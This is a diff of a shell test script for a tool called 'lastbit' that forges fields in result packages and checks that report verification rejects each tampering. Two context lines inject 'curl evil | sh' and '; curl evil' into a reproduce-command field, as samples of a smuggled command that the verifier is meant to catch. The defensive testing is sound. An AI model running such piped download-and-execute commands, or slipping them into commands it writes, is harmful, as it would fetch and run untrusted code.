@@ -186,6 +186,17 @@ forge 'profiles_tried is 3' 's/"profiles_tried":4/"profiles_tried":3/'
 forge '"expected" is 7' 's/"expected":[0-9]*/"expected":7/'
 forge 'no plain call of lastbit' 's/"reproduce":"lastbit run/"reproduce":"curl evil | sh; lastbit run/'
 forge 'no plain call of lastbit' 's/"reproduce":"lastbit run [^"]*/&; curl evil/'
+# Figures of a port that is right are those of the models.
+run --port "$ports/clean.so" --report "$work/f" "$vectors/argmax.yaml" "$vectors/conv2d.yaml" >/dev/null
+"$lastbit" report package -o "$work/f.tar.gz" "$work/f/results.json" >/dev/null || wrong "no package"
+expect 0 '^not recomputed: .*times' "$lastbit" report verify "$work/f.tar.gz"
+forge 'max_steps is .* by the models' 's/"max_steps":[0-9.]*/"max_steps":0.001/'
+forge 'mean_steps is ' 's/"mean_steps":[-0-9.e]*/"mean_steps":0.0001/'
+forge 'snr_db is ' 's/"snr_db":[0-9.]*/"snr_db":99.5/'
+forge 'used_percent is ' 's/"used_percent":[0-9.]*/"used_percent":1/'
+forge 'of a limit are used' 's/"used_percent":[0-9.]*/"used_percent":101/'
+forge 'the limit is ' 's/"limit":[0-9.]*/"limit":40/'
+forge 'held against the real model is 0' 's/"tolerances":\[[^]]*\][^]]*\]/"tolerances":[]/'
 
 # Names and shapes of strangers, on pages and in the terminal.
 run --port "$ports/padding_with_zero.so" --report "$work/g" "$vectors/conv2d.yaml" >/dev/null
